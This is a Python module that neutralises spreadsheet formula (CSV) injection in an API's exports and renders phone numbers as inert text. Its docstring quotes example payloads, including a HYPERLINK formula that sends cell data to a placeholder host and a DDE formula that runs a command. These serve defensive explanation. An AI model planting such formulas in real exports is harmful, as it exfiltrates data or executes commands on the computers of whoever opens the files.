"""Every CSV the API emits goes through here: cells a spreadsheet would run as formulas are neutralized.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return (`=HYPERLINK(...)`, `=cmd|'/c calc'!A1`, `@SUM(...)`), so a lead named `=HYPERLINK("https://x?"&A2)`
would run in the admin's spreadsheet. Following OWASP's CSV injection guidance, every cell is quoted and a
`'` is put before such a cell: spreadsheets show it as text. A `'` is also put at the start of every part of a
cell that follows a separator (`,` `;` tab, CR, LF) and would start a formula there, because a spreadsheet of
another locale (`;` as separator) or a tool that splits our `a;b` lists would turn that part into a cell of
its own. A value that already starts with `'` gets one more, so `restore` undoes exactly what `neutralize` did.

Phones are written by the exporters in a form no spreadsheet evaluates, `(+91) 98765 43210` (see
`phone_cell`): the international number stays readable, is parsed back by any phone library (and by our
import), and needs no `'` that would show in plain-text tools.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

# Characters that make a spreadsheet evaluate a cell (full-width forms too: Excel in East Asian locales).
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
# Characters that end one cell and start another in some reader (tab, CR and LF also start formulas).
SEPARATORS = frozenset(",;\t\r\n")
LEADING_CONTROL = frozenset("\t\r\n")
ESCAPE = "'"


def _needs_escape(char: str, *, first: bool) -> bool:
    return char in FORMULA_STARTS or char == ESCAPE or (first and char in LEADING_CONTROL)


def neutralize(value: str) -> str:
    """The cell text with a `'` before every part that a spreadsheet would evaluate as a formula."""
    out: list[str] = []
    at_start, first = True, True
    for char in value:
        if at_start and char == " ":
            out.append(char)
            continue
        if at_start and _needs_escape(char, first=first):
            out.append(ESCAPE)
        out.append(char)
        at_start, first = char in SEPARATORS, False
    return "".join(out)


def restore(value: str) -> str:
    """The original text of a neutralized cell (what an importer of our own exports reads back)."""
    out: list[str] = []
    at_start = True
    for char in value:
        if at_start and char == " ":
            out.append(char)
            continue
        if at_start and char == ESCAPE:
            at_start = False
            continue
        out.append(char)
        at_start = char in SEPARATORS
    return "".join(out)


def is_inert(value: str) -> bool:
    """True when no part of the cell text starts a formula (what every emitted cell must satisfy)."""
    at_start, first = True, True
    for char in value:
        if at_start and char == " ":
            continue
        if at_start and char != ESCAPE and _needs_escape(char, first=first):
            return False
        at_start, first = char in SEPARATORS, False
    return True


def phone_cell(country_code: str, national: str) -> str:
    """A phone as `(+91) 98765 43210`: readable, parseable, and never a formula (it starts with `(`)."""
    if not national:
        return ""
    return f"({country_code}) {national}" if country_code else national


def line(cells: Iterable[object]) -> str:
    """One CSV record (CRLF-terminated, every cell quoted and neutralized); None is an empty cell."""
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL).writerow(
        ["" if cell is None else neutralize(str(cell)) for cell in cells]
    )
    return buffer.getvalue()
